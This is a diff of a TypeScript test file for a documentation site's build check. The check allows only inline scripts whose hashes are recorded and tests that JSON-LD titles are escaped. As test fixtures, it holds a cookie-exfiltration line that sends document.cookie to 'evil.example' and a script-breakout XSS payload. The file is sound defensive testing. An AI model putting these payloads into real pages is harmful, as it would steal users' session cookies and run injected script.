@@ -3,7 +3,14 @@ import assert from 'node:assert/strict';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
-import {appRootRange, cspHash, findInlineScripts, inlineScriptsOf, intendedInlineScriptHashes} from '../../scripts/inline-scripts';
+import {
+  allowedInlineScriptHashes,
+  checkInlineScripts,
+  cspHash,
+  knownInlineScripts,
+  scriptsOf,
+} from '../../plugins/host-config/inlineScripts';
+import {jsonLdText} from '../../src/components/StructuredData/jsonLd';
 
 function site(pages: Record<string, string>): string {
   const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'site-'));
@@ -19,70 +26,67 @@ const page = (app: string, {head = '', before = '', after = ''} = {}) =>
   `<!doctype html><html lang=en><head>${head}<script src=/assets/js/main.js defer></script></head>` +
   `<body class=navigation-with-keyboard>${before}<div id=__docusaurus>${app}</div>${after}</body></html>`;
 
-const theme =
-  '!function(){var t=localStorage.getItem("theme-extension-docs");document.documentElement.setAttribute("data-theme",t||"light")}()';
-const banner = 'document.addEventListener("DOMContentLoaded",function(){void 0===window.docusaurus&&insertBanner()})';
-const start = '!function(){var e=!1;function n(){e||(e=!0,start())}requestAnimationFrame(n)}()';
-const app = '<nav><div class=navbar><div>Menu</div></div></nav><main><div><p>Text</p><div><div></div></div></div></main>';
+const theme = '!function(){document.documentElement.setAttribute("data-theme","light")}()';
+const start = '!function(){requestAnimationFrame(start)}()';
+const known = [theme, start].map((script) => ({what: 'a test script', hash: cspHash(script)}));
+const hostile = '</script><script>alert(document.domain)</script>';
 
-test('scripts of the template and the plugins, around the app, are hashed whatever their text', () => {
+test('the recorded scripts, wherever they stand, are allowed by their hashes; nothing else is', () => {
   const root = site({
-    'index.html': page(app, {
-      head: `<script data-rh=true>${banner}</script>`,
-      before: `<script>${theme}</script>`,
-      after: `<script>${start}</script>`,
-    }),
-    'docs/index.html': page(app, {before: `<script>${theme}</script>`, after: `<script>${start}</script>`}),
+    'index.html': page('<main>Text</main>', {before: `<script>${theme}</script>`, after: `<script>${start}</script>`}),
+    'de/index.html': page('<main>Text</main>', {before: `<script>${theme}</script>`}),
   });
-  assert.deepEqual(intendedInlineScriptHashes(root), [banner, theme, start].map(cspHash).sort());
-  assert.deepEqual(findInlineScripts(root).get(theme), ['docs/index.html', 'index.html']);
+  assert.deepEqual(checkInlineScripts(root, known), known.map(({hash}) => hash).sort());
 });
 
-test('an inline script inside the app stops the build, naming the pages that hold it', () => {
+test('an inline script outside the set stops the build, inside or outside the app root, naming each page', () => {
   const evil = 'fetch("https://evil.example/?"+document.cookie)';
   const root = site({
-    'index.html': page(app, {before: `<script>${theme}</script>`}),
-    'docs/srb/welcome/index.html': page(`<main><div><p>Text</p><script>${evil}</script></div></main>`, {
-      before: `<script>${theme}</script>`,
-    }),
-    'blog/index.html': page('<main><div><script type=module>import("/x.js")</script></div></main>'),
+    'index.html': page('<main>Text</main>', {before: `<script>${theme}</script>`}),
+    'docs/srb/welcome/index.html': page(`<main><p>Text</p><script>${evil}</script></main>`),
+    'blog/index.html': page('<main>Text</main>', {head: '<script data-rh=true>import("/x.js")</script>'}),
   });
   assert.throws(
-    () => intendedInlineScriptHashes(root),
+    () => checkInlineScripts(root, known),
     (error: Error) => {
-      assert.match(error.message, /docs\/srb\/welcome\/index\.html: fetch\("https:\/\/evil\.example/);
-      assert.match(error.message, /blog\/index\.html: import\("\/x\.js"\)/);
+      assert.match(error.message, /docs\/srb\/welcome\/index\.html: an inline script 'sha256-[^']+': "fetch\(\\"https:\/\/evil/);
+      assert.match(error.message, /blog\/index\.html: an inline script .*import\(/);
       assert.doesNotMatch(error.message, /^- index\.html/m);
+      assert.match(error.message, /record its new hash in plugins\/host-config\/inlineScripts\.ts/);
       return true;
     },
   );
 });
 
-test('the app root ends at its own closing tag: nested divs, and "<div" inside scripts and comments, do not count', () => {
-  const html = page(`<div><script>var s="<div>";</script><!-- <div> --><style>.x{content:"</div>"}</style></div><p>x</p>`, {
-    after: `<script>${start}</script>`,
-  });
-  const [begin, end] = appRootRange(html)!;
-  assert.ok(html.slice(begin, end).endsWith('<p>x</p></div>'), html.slice(begin, end));
-  assert.deepEqual(
-    inlineScriptsOf(html).map((s) => [s.script, s.insideApp]),
-    [
-      ['var s="<div>";', true],
-      [start, false],
-    ],
-  );
+test('JSON-LD written raw lets a title start a script: the parser finds it and the build stops', () => {
+  const raw = `<script type=application/ld+json>${JSON.stringify({name: hostile})}</script>`;
+  const root = site({'blog/x/index.html': page('<main>Text</main>', {head: raw})});
+  assert.throws(() => checkInlineScripts(root, known), /blog\/x\/index\.html: an inline script .*alert\(document\.domain\)/);
+  // Broken JSON-LD stops the build too, whatever it holds.
+  const broken = site({'a/index.html': page('<main>Text</main>', {head: '<script type=application/ld+json>{"name": </script>'})});
+  assert.throws(() => checkInlineScripts(broken, known), /a\/index\.html: a JSON-LD element that is not JSON/);
 });
 
-test('external scripts and JSON-LD data are not inline scripts', () => {
-  const root = site({
-    'index.html': page('<script type=application/ld+json>{"a":1}</script><script></script>', {
-      head: '<script data-rh=true type=application/ld+json>{"a":1}</script>',
-    }),
-  });
-  assert.equal(findInlineScripts(root).size, 0);
-  assert.deepEqual(intendedInlineScriptHashes(root), []);
+test('JSON-LD written with jsonLdText keeps a hostile title inside the data', () => {
+  const data = {'@type': 'BlogPosting', headline: hostile, name: 'A & B <b>', description: '-->'};
+  const text = jsonLdText(data);
+  assert.doesNotMatch(text, /[<>&]/);
+  assert.deepEqual(JSON.parse(text), data);
+  const html = page('<main>Text</main>', {head: `<script type=application/ld+json>${text}</script>`});
+  assert.deepEqual(scriptsOf(html), {inline: [], brokenJsonLd: []});
+  assert.deepEqual(checkInlineScripts(site({'index.html': html}), known), []);
 });
 
-test('a page without an app root (a file Docusaurus did not render) has no scripts inside the app', () => {
-  assert.deepEqual(inlineScriptsOf(`<html><body><script>${start}</script></body></html>`), [{script: start, insideApp: false}]);
+test('external scripts are not inline scripts; an empty one needs no hash', () => {
+  assert.deepEqual(scriptsOf(page('<script src=/a.js></script><script> </script>')), {inline: [], brokenJsonLd: []});
+});
+
+test('the policy allows exactly the recorded scripts; each says what it is, and no hash is recorded twice', () => {
+  assert.deepEqual(allowedInlineScriptHashes(), knownInlineScripts.map(({hash}) => hash).sort());
+  assert.ok(knownInlineScripts.length > 0);
+  for (const {what, hash} of knownInlineScripts) {
+    assert.match(hash, /^'sha256-[A-Za-z0-9+/]{43}='$/, what);
+    assert.ok(what.length > 20, hash);
+  }
+  assert.equal(new Set(knownInlineScripts.map(({hash}) => hash)).size, knownInlineScripts.length);
 });
